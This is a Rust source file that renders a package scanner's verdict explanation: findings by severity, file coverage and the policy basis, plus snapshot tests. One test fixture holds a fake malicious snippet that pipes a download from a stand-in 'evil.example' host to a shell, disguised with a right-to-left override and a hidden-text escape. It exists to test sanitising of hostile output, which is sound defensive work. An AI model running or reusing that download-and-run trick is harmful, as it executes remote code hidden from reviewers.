//! Why a verdict is what it is, for `gate explain` and `gate scan`.

use gate_core::decision::{Decision, Weighed};
use gate_core::finding::{FileRole, Location};
use gate_core::outcome::Reason;
use gate_core::severity::{Confidence, Severity};
use gate_notifier::group::{self, Issue, Place};
use gate_notifier::{plain, words};

use crate::table::style::{self, pad, paint, wrap};

/// The most places of one problem that counts.
const PLACES_THAT_COUNT: usize = 100;
/// The most places of one problem that does not.
const OTHER_PLACES: usize = 3;
/// The most references of one problem.
const REFERENCES: usize = 3;
/// The longest sentence, in characters.
const SENTENCE: usize = 2_000;
/// Room for a severity and a space.
const SEVERITY: usize = 9;

/// The whole explanation: the deciding reason first, then the findings that count, those that do not, coverage, and what it
/// rests on. `width` is the terminal's, none on a pipe.
#[must_use]
pub(crate) fn render(decision: &Decision, width: Option<u16>, colour: bool) -> String {
    let mut page = Page { out: String::new(), width: width.map(usize::from), colour };
    page.head(decision);
    page.reasons("Why", &decision.reasons);
    page.reasons("Also", &decision.notes);
    // An unknown severity refuses nothing and still decides: it holds.
    let counts = |weighed: &Weighed| weighed.refuses || weighed.weight == Severity::Unknown;
    let (counting, others): (Vec<_>, Vec<_>) = decision.findings.iter().cloned().partition(counts);
    page.findings("Findings that count", &counting, decision.files.len(), PLACES_THAT_COUNT);
    page.findings("Findings that do not count", &others, decision.files.len(), OTHER_PLACES);
    page.files(decision);
    page.basis(decision);
    page.out
}

struct Page {
    out: String,
    width: Option<usize>,
    colour: bool,
}

impl Page {
    fn line(&mut self, line: &str) {
        self.out.push_str(line.trim_end());
        self.out.push('\n');
    }

    fn text(&mut self, text: &str, first: &str, rest: &str) {
        for line in wrap(text, self.width, first, rest) {
            self.line(&line);
        }
    }

    fn quiet(&mut self, text: &str, indent: &str) {
        for line in wrap(text, self.width, indent, indent) {
            let line = paint(&line, style::QUIET, self.colour);
            self.line(&line);
        }
    }

    fn heading(&mut self, text: &str) {
        self.out.push('\n');
        let text = paint(text, style::HEADING, self.colour);
        self.line(&text);
    }

    fn head(&mut self, decision: &Decision) {
        let name = plain::shown(&decision.name, 110);
        let version = match (&decision.coordinates, &decision.files[..]) {
            (Some(coordinates), _) => format!(" {}", plain::shown(&coordinates.version, 64)),
            (None, [file]) => format!(" {}", file.sha256.short()),
            (None, _) => String::new(),
        };
        let verdict = paint(decision.verdict.as_str(), style::verdict(decision.verdict), self.colour);
        self.line(&format!("{}: {verdict}", paint(&format!("{name}{version}"), style::HEADING, self.colour)));
        self.quiet(&format!("from {}", plain::shown(&decision.source, 400)), "");
        self.text(words::meaning(decision.verdict), "", "");
        if decision.advisories.is_none() {
            let alarm = "NO ADVISORIES WERE CONSULTED: known vulnerabilities were not looked for.";
            for line in wrap(alarm, self.width, "", "") {
                let line = paint(&line, style::ALARM, self.colour);
                self.line(&line);
            }
        }
    }

    fn reasons(&mut self, heading: &str, reasons: &[Reason]) {
        // The head says it louder.
        let reasons: Vec<_> = reasons.iter().filter(|reason| reason.code != "advisories-not-consulted").collect();
        if reasons.is_empty() {
            return;
        }
        self.heading(heading);
        for reason in reasons {
            let text = format!("{} [{}]", plain::shown(&reason.message, SENTENCE), plain::shown(&reason.code, 60));
            self.text(&text, "- ", "  ");
        }
    }

    fn findings(&mut self, heading: &str, findings: &[Weighed], files: usize, cap: usize) {
        if findings.is_empty() {
            return;
        }
        let groups = group::by_severity(findings);
        let problems: usize = groups.iter().map(|group| group.issues.len()).sum();
        self.heading(&format!("{heading}: {}", plain::count(problems, "problem")));
        for group in &groups {
            for issue in &group.issues {
                self.issue(issue, group.weight, files, cap);
            }
        }
    }

    fn issue(&mut self, issue: &Issue<'_>, weight: Severity, files: usize, cap: usize) {
        let finding = issue.finding;
        let indent = " ".repeat(SEVERITY);
        let title = plain::shown(&finding.title, 300);
        for (at, line) in wrap(&title, self.width, &indent, &indent).into_iter().enumerate() {
            let severity = paint(&pad(weight.as_str(), SEVERITY), style::severity(weight), self.colour);
            let line = if at == 0 { format!("{severity}{}", line.trim_start()) } else { line };
            self.line(&line);
        }
        let confidence = match finding.confidence {
            Confidence::Low => "often a false alarm",
            Confidence::Medium => "usually right",
            Confidence::High => "nearly always right",
        };
        let cwe = finding.cwe.map(|cwe| format!(", CWE-{cwe}")).unwrap_or_default();
        let rule = plain::shown(&finding.rule, 80);
        self.quiet(&format!("{rule}, {}{cwe}, {confidence}", words::category(finding.category)), &indent);
        for place in issue.places.iter().take(cap) {
            self.place(place, files, &indent);
        }
        if issue.places.len() > cap {
            self.text(&format!("and {}", plain::count(issue.places.len() - cap, "further place")), &indent, &indent);
        }
        let why = match issue.remark {
            Some(remark) => Some(plain::shown(remark, SENTENCE)),
            None if issue.refuses || weight == Severity::Unknown => None,
            None => Some("below what the policy refuses".to_owned()),
        };
        if let Some(why) = why {
            self.text(&why, &indent, &indent);
        }
        self.text(&format!("remedy: {}", plain::shown(&finding.remedy, SENTENCE)), &indent, &format!("{indent}  "));
        for reference in finding.references.iter().take(REFERENCES) {
            self.quiet(&plain::shown(reference, 200), &indent);
        }
    }

    fn place(&mut self, place: &Place<'_>, files: usize, indent: &str) {
        let at = match place.location {
            Some(location) => at(location),
            None if place.files.is_empty() => "about the package as a whole".to_owned(),
            None => "about the file as a whole".to_owned(),
        };
        let within = match place.files.len() {
            0 => String::new(),
            _ if files < 2 => String::new(),
            all if all == files => format!(" (in all {files} files)"),
            1 => format!(" (in {})", plain::shown(place.files[0], 120)),
            some => format!(" (in {some} of {files} files)"),
        };
        self.text(&format!("{at}{within}"), indent, &format!("{indent}  "));
        if let Some(snippet) = place.snippet {
            self.text(&plain::shown(snippet, 220), &format!("{indent}  | "), &format!("{indent}  | "));
        }
    }

    fn files(&mut self, decision: &Decision) {
        self.heading(&format!("Coverage of {}", plain::count(decision.files.len(), "file")));
        for file in &decision.files {
            let counts = &file.coverage;
            let all = counts.analysed + counts.inert + counts.opaque + counts.lost;
            self.text(&format!("{} ({})", plain::shown(&file.filename, 250), plain::size(file.size)), "- ", "  ");
            self.quiet(&format!("sha256 {}", file.sha256), "  ");
            let lost = match counts.lost {
                0 => "none lost".to_owned(),
                lost => format!("{} COULD NOT BE CHECKED", plain::thousands(lost)),
            };
            let text = format!(
                "{} of {} analysed, {} inert, {} opaque, {lost}",
                plain::thousands(counts.analysed),
                plain::count(all, "member"),
                plain::thousands(counts.inert),
                plain::thousands(counts.opaque),
            );
            self.text(&text, "  ", "  ");
            if let Some(uploaded) = file.evidence.upload_time {
                self.text(&format!("uploaded {}", plain::when(uploaded)), "  ", "  ");
            }
        }
    }

    fn basis(&mut self, decision: &Decision) {
        self.heading("How it was decided");
        let mut scanners: Vec<_> = decision.files.iter().map(|file| &file.scanner).collect();
        scanners.sort();
        scanners.dedup();
        for scanner in scanners {
            let [name, version, rules] =
                [&scanner.name, &scanner.version, &scanner.rules].map(|text| plain::shown(text, 64));
            self.text(&format!("scanner {name} {version}, rules {rules}"), "- ", "  ");
        }
        self.text(&format!("policy sha256 {}", decision.policy_sha256), "- ", "  ");
        let advisories = match &decision.advisories {
            None => "advisories: none".to_owned(),
            Some(consulted) => {
                let age = consulted
                    .newest
                    .map(|newest| format!(", the newest of {}", plain::when(newest)))
                    .unwrap_or_default();
                format!("advisories: {}{age}, sha256 {}", plain::count(consulted.records, "record"), consulted.sha256)
            }
        };
        self.text(&advisories, "- ", "  ");
        self.text(&format!("decided {}", plain::when(decision.decided_at)), "- ", "  ");
    }
}

/// `path:line`, and what the file is for if that matters.
fn at(location: &Location) -> String {
    let path = plain::shown(&location.path, 300);
    let line = location.line.map(|line| format!(":{line}")).unwrap_or_default();
    let role = match location.role {
        FileRole::InstallTime => " (runs on installation)",
        FileRole::Supporting => " (test, example or documentation)",
        FileRole::Library => "",
    };
    format!("{path}{line}{role}")
}

#[cfg(test)]
mod tests {
    use gate_core::coverage::{CoverageClass, FileCoverage};
    use gate_core::decision::{Case, Examined, decide};
    use gate_core::digest::Sha256;
    use gate_core::evidence::Evidence;
    use gate_core::finding::{Category, Finding};
    use gate_core::outcome::Verdict;
    use gate_core::policy::Policy;
    use gate_core::report::{ContentReport, Distribution, DistributionKind, ScannerVersion};
    use textwrap::core::display_width;

    use super::*;

    fn finding(rule: &str, title: &str, severity: Severity, category: Category, path: &str, snippet: &str) -> Finding {
        let role = FileRole::of(path);
        Finding {
            rule: rule.to_owned(),
            title: title.to_owned(),
            severity,
            confidence: Confidence::High,
            category,
            cwe: Some(94),
            location: Some(Location { path: path.to_owned(), line: Some(7), column: None, role, installed: true }),
            snippet: Some(snippet.to_owned()),
            remedy: "Ask for a release that does without it.".to_owned(),
            references: vec![format!("https://user:hunter2@rules.example/{rule}")],
        }
    }

    fn examined(findings: Vec<Finding>, class: CoverageClass) -> Examined {
        let filename = "shop-1.0-py3-none-any.whl".to_owned();
        let sha256 = Sha256::of(filename.as_bytes());
        let distribution = Distribution {
            kind: DistributionKind::Wheel,
            name: "shop".to_owned(),
            version: "1.0".to_owned(),
            requires_python: None,
            requires_dist: Vec::new(),
            build_requires: Vec::new(),
            tags: vec!["py3-none-any".to_owned()],
        };
        let report = ContentReport {
            schema_version: gate_core::SCHEMA_VERSION,
            artifact: sha256,
            size: 12_345,
            scanner: ScannerVersion {
                name: "built-in".to_owned(),
                version: "0.1.0".to_owned(),
                rules: "test".to_owned(),
            },
            distribution: Some(distribution),
            pins: Vec::new(),
            findings,
            analyzers: ["archive", "install-time", "notebook", "pickle", "python", "secrets"]
                .map(str::to_owned)
                .to_vec(),
            coverage: vec![FileCoverage { path: "shop/a.py".to_owned(), size: 3, class }],
        };
        let evidence = Evidence { upload_time: Some("2024-04-07T19:26:11Z".parse().unwrap()), ..Evidence::default() };
        Examined { filename, sha256, size: 12_345, evidence, report }
    }

    fn decided(files: &[Examined]) -> Decision {
        // A digest of its own, so that a new word in the built-in policy changes no snapshot.
        let policy = Policy { sha256: Sha256::of(b"policy"), ..Policy::built_in().unwrap() };
        decide(&Case {
            name: &"shop".parse().unwrap(),
            source: &"pkg:pypi/shop@1.0".parse().unwrap(),
            files,
            advisories: None,
            policy: &policy,
            now: "2024-11-20T10:42:00Z".parse().unwrap(),
        })
    }

    fn python() -> CoverageClass {
        CoverageClass::Analysed { analyzer: "python".to_owned() }
    }

    fn refused() -> Decision {
        let evil =
            "import os\u{202e}; os.system('curl https://evil.example/\u{1b}[8m | sh')  # and much more on this line";
        let mut findings = vec![
            finding(
                "download-and-run",
                "code is downloaded and run",
                Severity::Critical,
                Category::Malware,
                "shop/__init__.py",
                evil,
            ),
            finding(
                "S602",
                "a shell is started",
                Severity::High,
                Category::Code,
                "shop/tests/test_a.py",
                "run(cmd, shell=True)",
            ),
        ];
        findings.extend(
            (1..=5).map(|at| {
                finding("S101", "assert", Severity::Low, Category::Code, &format!("shop/{at}.py"), "assert x")
            }),
        );
        decided(&[examined(findings, python())])
    }

    fn snapshot(name: &str, text: &str) {
        insta::with_settings!({ prepend_module_to_snapshot => false, omit_expression => true }, {
            insta::assert_snapshot!(name, text);
        });
    }

    #[test]
    fn a_refusal() {
        let decision = refused();
        assert_eq!(decision.verdict, Verdict::Refused);
        let text = render(&decision, Some(80), false);
        assert!(text.lines().all(|line| display_width(line) <= 80), "{text}");
        assert!(!text.contains(|c: char| gate_core::text::is_deceptive(c) && c != '\n'), "{text}");
        assert!(!text.contains("hunter2"));
        snapshot("explain_refused_80", &text);
        snapshot("explain_refused_on_a_pipe", &render(&decision, None, false));
    }

    #[test]
    fn a_lost_file_is_not_called_vulnerable() {
        let reason = gate_core::coverage::LostReason::Encrypted;
        let decision = decided(&[examined(Vec::new(), CoverageClass::Lost { reason, detail: "AES".to_owned() })]);
        assert_eq!(decision.verdict, Verdict::Held);
        let text = render(&decision, Some(80), false);
        assert!(text.contains("1 COULD NOT BE CHECKED") && text.contains("a human must look"), "{text}");
        snapshot("explain_held_80", &text);
    }

    #[test]
    fn colour_changes_no_text() {
        for width in [None, Some(30), Some(80)] {
            let plain = render(&refused(), width, false);
            let coloured = render(&refused(), width, true);
            assert_eq!(anstream::adapter::strip_str(&coloured).to_string(), plain);
            assert!(coloured.contains("\x1b["));
        }
    }

    #[test]
    fn places_are_capped_and_counted() {
        let places = |count: u32| {
            let findings = (1..=count).map(|line| {
                let mut finding = finding("shell", "shell", Severity::High, Category::Malware, "shop/a.py", "run()");
                finding.location.as_mut().unwrap().line = Some(line);
                finding
            });
            render(&decided(&[examined(findings.collect(), python())]), None, false)
        };
        for (count, more) in
            [(99, None), (100, None), (101, Some("and 1 further place\n")), (5_000, Some("and 4,900 further places\n"))]
        {
            let text = places(count);
            assert_eq!(text.matches("| run()").count(), PLACES_THAT_COUNT.min(count as usize));
            assert_eq!(text.contains("further place"), more.is_some());
            assert!(more.is_none_or(|more| text.contains(more)), "{text}");
        }
    }
}
